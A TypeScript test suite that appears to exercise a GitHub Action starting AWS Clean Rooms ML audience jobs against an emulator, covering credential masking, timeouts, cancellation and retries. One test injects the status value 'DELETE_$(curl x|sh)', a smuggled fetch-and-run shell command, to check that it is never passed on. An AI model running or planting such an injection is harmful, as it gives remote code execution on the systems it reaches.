// The whole step in-process (src/main.ts run()), against the emulator, with an injected clock so
// that waits of hours take no time. The end-to-end suites cover the same paths through dist/.
import type { Emulator } from '../emulator/index.js'
import { FakeClock } from './helpers/fake-clock.js'
import { inProcessSteps, type StepResult } from './helpers/in-process.js'
import { routedUrl, startProxy } from './helpers/proxy.js'
import { ENV_CREDENTIALS } from './helpers/run-action.js'
import { ACCOUNT, MODEL_ARN, OIDC, OTHER_MODEL_ARN, VALID_INPUTS } from './helpers/fixtures.js'

const INPUTS = { ...VALID_INPUTS, name: 'in-process' }

const inProcess = inProcessSteps()
const step = inProcess.step
let emulator: Emulator
beforeEach(() => {
  emulator = inProcess.emulator()
})

describe('a full launch with OIDC, waiting until the job is ACTIVE', () => {
  it('sets every output and succeeds', async () => {
    const result = await step({ ...INPUTS, ...OIDC, 'wait-for-completion': 'true' })
    if (result.exitCode !== 0) console.error(result.log)
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ created: 'true', status: 'ACTIVE' })
    expect(result.outputs['audience-generation-job-arn']).toBe(emulator.jobs[0]!.audienceGenerationJobArn)
    expect(result.log).toContain('The job is ACTIVE after')
    expect(result.summary).toContain('Created by this step')
  })

  it('masks the token and every credential before using them', async () => {
    const result = await step({ ...INPUTS, ...OIDC })
    const issued = emulator.issuedCredentials[0]!
    for (const secret of [
      emulator.issuedTokens[0]!.value,
      issued.accessKeyId,
      issued.secretAccessKey,
      issued.sessionToken
    ]) {
      expect(result.log).toContain(`::add-mask::${secret}`)
    }
  })
})

describe('long waits are bounded and never look hung', () => {
  it('logs a line at least every five minutes while the status stays the same', async () => {
    emulator.statusSequence = [
      'CREATE_PENDING',
      ...Array.from({ length: 30 }, () => 'CREATE_IN_PROGRESS' as const),
      'ACTIVE'
    ]
    const result = await step(
      { ...INPUTS, 'wait-for-completion': 'true', 'wait-timeout-seconds': '21600' },
      ENV_CREDENTIALS,
      new FakeClock(1)
    )
    expect(result.exitCode).toBe(0)
    expect(result.log).toMatch(/^Still CREATE_IN_PROGRESS after \d+m \d+s$/m)
  })

  it('renews role credentials before they expire during a long wait', async () => {
    emulator.statusSequence = [
      'CREATE_PENDING',
      ...Array.from({ length: 60 }, () => 'CREATE_IN_PROGRESS' as const),
      'ACTIVE'
    ]
    const result = await step(
      {
        ...INPUTS,
        ...OIDC,
        'role-duration-seconds': '900',
        'wait-for-completion': 'true',
        'wait-timeout-seconds': '21600'
      },
      {}
    )
    expect(result.exitCode).toBe(0)
    // About an hour of polling with 15-minute sessions renewed 5 minutes early: one role session per 10 minutes.
    const sessions = emulator.requests.filter((request) => request.operation === 'AssumeRoleWithWebIdentity').length
    expect(sessions).toBeGreaterThanOrEqual(5)
    expect(emulator.requests.filter((request) => request.operation === 'GetIdToken')).toHaveLength(sessions)
  })

  it('renews chained role credentials before they expire during a long wait, as for OIDC', async () => {
    emulator.statusSequence = [
      'CREATE_PENDING',
      ...Array.from({ length: 60 }, () => 'CREATE_IN_PROGRESS' as const),
      'ACTIVE'
    ]
    const result = await step(
      {
        ...INPUTS,
        ...OIDC,
        'role-chaining': 'true',
        'role-duration-seconds': '900',
        'wait-for-completion': 'true',
        'wait-timeout-seconds': '21600'
      },
      ENV_CREDENTIALS
    )
    expect(result.exitCode).toBe(0)
    const sessions = emulator.requests.filter((request) => request.operation === 'AssumeRole')
    expect(sessions.length).toBeGreaterThanOrEqual(5)
    expect(emulator.requests.filter((request) => request.service === 'oidc')).toEqual([])
    // Every session is signed with the environment's keys, and masked before any later line.
    for (const request of sessions) {
      expect(request.headers['authorization']).toContain(`Credential=${ENV_CREDENTIALS.AWS_ACCESS_KEY_ID}/`)
    }
    for (const issued of emulator.issuedCredentials) expect(result.log).toContain(`::add-mask::${issued.sessionToken}`)
    const checks = emulator.requests.filter((request) => request.operation === 'GetAudienceGenerationJob')
    const lastKey = emulator.issuedCredentials.at(-1)!.accessKeyId
    expect(checks.at(-1)!.headers['authorization']).toContain(`Credential=${lastKey}/`)
  })

  it('gives up at wait-timeout-seconds with the last status as outputs, within the status-call budget', async () => {
    emulator.statusSequence = ['CREATE_PENDING', 'CREATE_IN_PROGRESS']
    const clock = new FakeClock()
    const result = await step(
      { ...INPUTS, 'wait-for-completion': 'true', 'wait-timeout-seconds': '3600' },
      ENV_CREDENTIALS,
      clock
    )
    expect(result.exitCode).toBe(1)
    expect(result.outputs).toMatchObject({ 'error-type': 'WaitTimeout', status: 'CREATE_IN_PROGRESS', created: 'true' })
    expect(result.outputs['audience-generation-job-arn']).toBe(emulator.jobs[0]!.audienceGenerationJobArn)
    expect(result.log).toContain('still CREATE_IN_PROGRESS after waiting 1h 0m')
    const checks = emulator.requests.filter((request) => request.operation === 'GetAudienceGenerationJob')
    expect(checks.length).toBeLessThanOrEqual(120)
    expect(Math.max(...clock.sleeps)).toBeLessThanOrEqual(60_000)
  })
})

describe('role chaining reports what the role or the environment lacks', () => {
  const CHAINED = { ...INPUTS, ...OIDC, 'role-chaining': 'true' }

  it('fails with CredentialsNotFound before any request when the environment has no credentials', async () => {
    const result = await step(CHAINED)
    expect(result.exitCode).toBe(1)
    expect(result.outputs['error-type']).toBe('CredentialsNotFound')
    expect(result.log).toContain(
      'With role-chaining: true, role-to-assume is assumed with credentials from an earlier step'
    )
    expect(emulator.requests).toEqual([])
  })

  it('names the refused role and the external id its trust policy requires', async () => {
    emulator.roles = { [OIDC['role-to-assume']]: { externalId: 'partner-4711' } }
    const result = await step({ ...CHAINED, 'role-external-id': 'partner-0000' }, ENV_CREDENTIALS)
    expect(result.outputs['error-type']).toBe('AccessDenied')
    expect(result.log).toContain(`assume ${OIDC['role-to-assume']} (role-chaining)`)
    expect(result.log).toContain('sts:ExternalId condition must equal role-external-id')
    expect(emulator.requests.map((request) => request.operation)).toEqual(['AssumeRole'])
  })

  it('masks the account id of every ARN before the line that shows it, with mask-aws-account-id', async () => {
    const result = await step(
      { ...CHAINED, 'mask-aws-account-id': 'true', 'wait-for-completion': 'true' },
      ENV_CREDENTIALS
    )
    expect(result.exitCode).toBe(0)
    const lines = result.log.split('\n')
    const first = lines.findIndex((line) => line.includes(ACCOUNT))
    expect(lines[first]).toBe(`::add-mask::${ACCOUNT}`)
    expect(result.summary).toContain(ACCOUNT)
  })
})

describe('a status outside the API model is neither an end nor an output', () => {
  it('keeps waiting, and passes no such status on to later steps', async () => {
    const body = JSON.stringify({ status: 'DELETE_$(curl x|sh)' })
    emulator.fault(
      'cleanrooms-ml',
      'GetAudienceGenerationJob',
      ...Array.from({ length: 40 }, () => ({ kind: 'raw', status: 200, body }) as const)
    )
    const result = await step(
      { ...INPUTS, 'wait-for-completion': 'true', 'wait-timeout-seconds': '60' },
      ENV_CREDENTIALS
    )
    expect(result.outputs['error-type']).toBe('WaitTimeout')
    expect(result.outputs['status']).toBe('')
  })
})

describe('wait-timeout-seconds is a hard bound, whatever the status checks do', () => {
  const WAIT = { ...INPUTS, 'wait-for-completion': 'true', 'wait-timeout-seconds': '600' }
  const hang = { kind: 'hang' } as const

  it('abandons a status check still in flight when the wait is over', async () => {
    emulator.statusSequence = ['CREATE_PENDING', 'CREATE_IN_PROGRESS']
    const clock = new FakeClock()
    const started = clock.now()
    let checks = 0
    // Two checks answer; every one after them hangs until the clock moves on.
    const result = await step(WAIT, ENV_CREDENTIALS, clock, {
      onRequest: (request) => {
        if (request.operation === 'GetAudienceGenerationJob' && ++checks >= 2) {
          emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', hang)
        }
      }
    })
    expect(result.exitCode).toBe(1)
    expect(result.outputs).toMatchObject({ 'error-type': 'WaitTimeout', status: 'CREATE_IN_PROGRESS' })
    expect(clock.now() - started).toBeLessThanOrEqual(600_000 + 15_000)
  })

  it('makes one last bounded check when no status was seen, and still sets every output', async () => {
    const clock = new FakeClock()
    const started = clock.now()
    emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', ...Array.from({ length: 500 }, () => hang))
    const result = await step(WAIT, ENV_CREDENTIALS, clock)
    expect(result.exitCode).toBe(1)
    expect(result.outputs['error-type']).toBe('WaitTimeout')
    expect(result.outputs['audience-generation-job-arn']).toBe(emulator.jobs[0]!.audienceGenerationJobArn)
    expect(result.outputs['created']).toBe('true')
    expect(result.log).toContain('still not reported after waiting')
    expect(clock.now() - started).toBeLessThanOrEqual(600_000 + 15_000)
  })

  it('reports the status the last check sees when the wait ends before any', async () => {
    const clock = new FakeClock()
    const started = clock.now()
    emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', hang)
    // Every check within the minute hangs; the last one, after it, answers.
    const advance = clock.advance.bind(clock)
    clock.advance = (ms) => {
      advance(ms)
      if (clock.now() - started >= 60_000) emulator.faults.clear()
    }
    const result = await step({ ...WAIT, 'wait-timeout-seconds': '60' }, ENV_CREDENTIALS, clock, {
      onRequest: (request) => {
        if (request.operation === 'GetAudienceGenerationJob' && clock.now() - started < 60_000) {
          emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', hang)
        }
      }
    })
    expect(result.outputs['error-type']).toBe('WaitTimeout')
    expect(result.outputs['status']).toBe(emulator.jobs[0]!.status)
    expect(clock.now() - started).toBeLessThanOrEqual(60_000 + 15_000)
  })
})

describe('a cancelled step stops every phase at once and starts no job', () => {
  const WAIT = { ...INPUTS, 'wait-for-completion': 'true' }
  const hang = { kind: 'hang' } as const

  interface Cancelled {
    result: StepResult
    signalledAt: { time: number; requests: number }
    clock: FakeClock
  }

  /** Sends SIGTERM when the emulator receives `operation`; returns what the step left behind. */
  async function cancelDuring(
    operation: string,
    inputs: Record<string, string>,
    env: Record<string, string | undefined> = ENV_CREDENTIALS
  ): Promise<Cancelled> {
    const clock = new FakeClock()
    let signalledAt: Cancelled['signalledAt'] | undefined
    const result = await step(inputs, env, clock, {
      onRequest: (request) => {
        if (request.operation !== operation || signalledAt) return
        signalledAt = { time: clock.now(), requests: emulator.requests.length }
        process.emit('SIGTERM', 'SIGTERM')
      }
    })
    expect(signalledAt).toBeDefined()
    return { result, signalledAt: signalledAt!, clock }
  }

  function expectStoppedAtOnce({ result, signalledAt, clock }: Cancelled, jobs: number): void {
    expect(result.exitCode).toBe(1)
    expect(result.outputs['error-type']).toBe('StepCancelled')
    expect(result.log).toContain('Received SIGTERM: stopping.')
    expect(result.log.match(/^::error /gm)).toHaveLength(1)
    // Not a moment of the step's clock passes, and no request is made, after the signal.
    expect(clock.now()).toBe(signalledAt.time)
    expect(emulator.requests).toHaveLength(signalledAt.requests)
    expect(emulator.jobs).toHaveLength(jobs)
    expect(process.listenerCount('SIGTERM')).toBe(0)
  }

  it('before any request', async () => {
    const result = await step({ ...INPUTS, ...OIDC }, {}, new FakeClock(), {
      onStart: () => process.emit('SIGTERM', 'SIGTERM')
    })
    expect(result.exitCode).toBe(1)
    expect(result.outputs['error-type']).toBe('StepCancelled')
    expect(result.log).toContain('No job was started.')
    expect(emulator.requests).toEqual([])
  })

  it('during the OIDC token request', async () => {
    emulator.fault('oidc', 'GetIdToken', hang)
    const cancelled = await cancelDuring('GetIdToken', { ...INPUTS, ...OIDC }, {})
    expectStoppedAtOnce(cancelled, 0)
    expect(cancelled.result.log).toContain('title=StepCancelled%3A Getting AWS credentials failed')
    expect(cancelled.result.log).toContain('No job was started.')
  })

  it('during the STS exchange', async () => {
    emulator.fault('sts', 'AssumeRoleWithWebIdentity', hang)
    const cancelled = await cancelDuring('AssumeRoleWithWebIdentity', { ...INPUTS, ...OIDC }, {})
    expectStoppedAtOnce(cancelled, 0)
    expect(cancelled.result.outputs['created']).toBeUndefined()
  })

  it('during the start request, saying the job may exist and how to check', async () => {
    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', hang)
    const cancelled = await cancelDuring('StartAudienceGenerationJob', INPUTS)
    expectStoppedAtOnce(cancelled, 0)
    expect(cancelled.result.log).toContain(`job "${INPUTS.name}" was in flight, so the job may have been created`)
    expect(cancelled.result.log).toContain('if-exists: reuse')
  })

  it("during reuse's listing", async () => {
    emulator.addJob({ name: INPUTS.name, configuredAudienceModelArn: MODEL_ARN, status: 'ACTIVE' })
    emulator.fault('cleanrooms-ml', 'ListAudienceGenerationJobs', hang)
    const cancelled = await cancelDuring('ListAudienceGenerationJobs', { ...INPUTS, 'if-exists': 'reuse' })
    expectStoppedAtOnce(cancelled, 1)
    expect(cancelled.result.outputs['audience-generation-job-arn']).toBeUndefined()
  })

  it('during a status check, keeping the outputs already set', async () => {
    emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', hang)
    const cancelled = await cancelDuring('GetAudienceGenerationJob', WAIT)
    expectStoppedAtOnce(cancelled, 1)
    expect(cancelled.result.outputs['audience-generation-job-arn']).toBe(emulator.jobs[0]!.audienceGenerationJobArn)
    expect(cancelled.result.log).toContain('The job keeps running in AWS')
    expect(cancelled.result.summary).toContain('The wait was cancelled')
  })

  it('during a backoff', async () => {
    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', {
      kind: 'error',
      status: 429,
      type: 'ThrottlingException'
    })
    const clock = new FakeClock()
    const sleep = clock.sleep.bind(clock)
    let signalledAt: Cancelled['signalledAt'] | undefined
    clock.sleep = async (ms, signal) => {
      signalledAt ??= { time: clock.now(), requests: emulator.requests.length }
      process.emit('SIGTERM', 'SIGTERM')
      return sleep(ms, signal)
    }
    const result = await step(INPUTS, ENV_CREDENTIALS, clock)
    expectStoppedAtOnce({ result, signalledAt: signalledAt!, clock }, 0)
    expect(clock.sleeps).toEqual([])
  })
})

describe('transient faults end in success', () => {
  it('retries STS throttling and server errors', async () => {
    emulator.fault(
      'sts',
      'AssumeRoleWithWebIdentity',
      { kind: 'error', status: 400, type: 'Throttling' },
      { kind: 'error', status: 503 }
    )
    const result = await step({ ...INPUTS, ...OIDC })
    expect(result.exitCode).toBe(0)
    expect(emulator.requests.filter((r) => r.service === 'sts')).toHaveLength(3)
  })

  it('waits through a transient error that outlasts the retries of one check', async () => {
    const unavailable = { kind: 'error', status: 503, type: 'ServiceUnavailable' } as const
    emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', ...Array.from({ length: 12 }, () => unavailable))
    const result = await step({ ...INPUTS, 'wait-for-completion': 'true' }, ENV_CREDENTIALS)
    expect(result.exitCode).toBe(0)
    expect(result.log).toContain("::warning::Checking the job's status failed with ServiceUnavailable; still waiting.")
  })
})

describe('permanent faults end in one annotation and exit 1', () => {
  it('fails the wait at once when the job cannot be read', async () => {
    emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', {
      kind: 'error',
      status: 403,
      type: 'AccessDeniedException'
    })
    const result = await step({ ...INPUTS, 'wait-for-completion': 'true' }, ENV_CREDENTIALS)
    expect(result.exitCode).toBe(1)
    expect(result.log).toContain('title=AccessDeniedException%3A Waiting for the audience generation job failed')
    expect(result.log).toContain('cleanrooms-ml:GetAudienceGenerationJob (wait-for-completion)')
  })

  it('explains server errors that outlast every retry', async () => {
    const failure = { kind: 'error', status: 500, type: 'InternalServerException' } as const
    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', ...Array.from({ length: 12 }, () => failure))
    const result = await step(INPUTS, ENV_CREDENTIALS)
    expect(result.outputs['error-type']).toBe('InternalServerException')
    expect(result.log).toContain('This is on AWS')
  })

  it('explains a service that never answers', async () => {
    emulator.fault(
      'cleanrooms-ml',
      'StartAudienceGenerationJob',
      ...Array.from({ length: 12 }, () => ({ kind: 'hang' }) as const)
    )
    const result = await step(INPUTS, ENV_CREDENTIALS)
    expect(result.outputs['error-type']).toBe('TimeoutError')
    expect(result.log).toContain('No answer came in time')
  })

  it('explains an OIDC token endpoint that keeps failing', async () => {
    emulator.fault('oidc', 'GetIdToken', ...Array.from({ length: 20 }, () => ({ kind: 'error', status: 401 }) as const))
    const result = await step({ ...INPUTS, ...OIDC })
    expect(result.outputs['error-type']).toBe('OidcTokenUnavailable')
    expect(emulator.requests.filter((r) => r.service === 'sts')).toHaveLength(0)
  })

  it('retries an OIDC token endpoint that does not answer, and explains one that never does', async () => {
    emulator.fault('oidc', 'GetIdToken', { kind: 'hang' })
    const recovered = await step({ ...INPUTS, ...OIDC })
    expect(recovered.exitCode).toBe(0)
    expect(emulator.requests.filter((r) => r.service === 'oidc')).toHaveLength(2)
    emulator.reset()
    emulator.fault('oidc', 'GetIdToken', ...Array.from({ length: 12 }, () => ({ kind: 'hang' }) as const))
    const failed = await step({ ...INPUTS, ...OIDC })
    expect(failed.outputs['error-type']).toBe('TimeoutError')
    expect(emulator.requests.filter((r) => r.service === 'sts')).toHaveLength(0)
  })
})

describe('settings outside the inputs are checked too', () => {
  it('names FIPS when the endpoint rules refuse it with a custom endpoint', async () => {
    const result = await step(INPUTS, { AWS_USE_FIPS_ENDPOINT: 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.log).toContain('title=Invalid input%3A AWS_USE_FIPS_ENDPOINT')
    expect(result.log).toContain('FIPS and custom endpoint are not supported')
  })

  it('describes the job generically outside a workflow run', async () => {
    await step(INPUTS, { ...ENV_CREDENTIALS, GITHUB_REPOSITORY: undefined })
    expect(JSON.parse(emulator.requests[0]!.body).description).toBe('Started by GitHub Actions')
  })
})

describe('if-exists: reuse', () => {
  it('reuses the job of the same name and model', async () => {
    const existing = emulator.addJob({ name: INPUTS.name, configuredAudienceModelArn: MODEL_ARN, status: 'ACTIVE' })
    const result = await step({ ...INPUTS, 'if-exists': 'reuse' }, ENV_CREDENTIALS)
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({
      'audience-generation-job-arn': existing.audienceGenerationJobArn,
      created: 'false'
    })
  })

  it('refuses a job of that name for another model', async () => {
    const other = OTHER_MODEL_ARN
    emulator.addJob({ name: INPUTS.name, configuredAudienceModelArn: other, status: 'ACTIVE' })
    const result = await step({ ...INPUTS, 'if-exists': 'reuse' }, ENV_CREDENTIALS)
    expect(result.outputs['error-type']).toBe('ExistingJobMismatch')
    expect(result.log).toContain(other)
  })

  it('explains a conflict with no job of that name to be found', async () => {
    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', {
      kind: 'error',
      status: 409,
      type: 'ConflictException'
    })
    const result = await step({ ...INPUTS, 'if-exists': 'reuse' }, ENV_CREDENTIALS)
    expect(result.outputs['error-type']).toBe('ExistingJobMismatch')
    expect(result.log).toContain('no such job is listed in this account')
  })

  it('checks the collaboration when one is given', async () => {
    emulator.addJob({ name: INPUTS.name, configuredAudienceModelArn: MODEL_ARN, status: 'ACTIVE' })
    const result = await step(
      { ...INPUTS, 'if-exists': 'reuse', 'collaboration-id': '22222222-2222-2222-2222-222222222222' },
      ENV_CREDENTIALS
    )
    expect(result.log).toContain('already exists in collaboration (none)')
  })
})

describe('dry run and credentials in-process', () => {
  it('prints the request and sends nothing', async () => {
    const result = await step({ ...INPUTS, 'dry-run': 'true' })
    expect(result.exitCode).toBe(0)
    expect(result.log).toContain(`POST ${emulator.cleanroomsUrl}/audience-generation-job`)
    expect(result.summary).toContain('(dry run)')
    expect(emulator.requests).toEqual([])
  })

  it('finds no credentials in an empty environment', async () => {
    const result = await step(INPUTS)
    expect(result.outputs['error-type']).toBe('CredentialsNotFound')
  })

  it('writes no summary outside a runner', async () => {
    const result = await step({ ...INPUTS, 'dry-run': 'true' }, { GITHUB_STEP_SUMMARY: undefined })
    expect(result.exitCode).toBe(0)
    expect(result.summary).toBe('')
  })
})

describe('behind a proxy', () => {
  it('sends OIDC, STS and Clean Rooms ML requests through it', async () => {
    const proxy = await startProxy()
    try {
      const result = await step(
        { ...INPUTS, ...OIDC, 'wait-for-completion': 'true' },
        {
          AWS_ENDPOINT_URL_CLEANROOMSML: routedUrl(emulator.cleanroomsUrl, 'cleanrooms'),
          AWS_ENDPOINT_URL_STS: routedUrl(emulator.stsUrl, 'sts'),
          ACTIONS_ID_TOKEN_REQUEST_URL: routedUrl(emulator.oidcRequestUrl, 'oidc'),
          https_proxy: proxy.url,
          http_proxy: proxy.url
        }
      )
      expect(result.exitCode).toBe(0)
      const hosts = new Set(proxy.requests.map((request) => request.target.split(':')[0]))
      expect([...hosts].sort()).toEqual(['cleanrooms.example.test', 'oidc.example.test', 'sts.example.test'])
    } finally {
      await proxy.close()
    }
  })
})
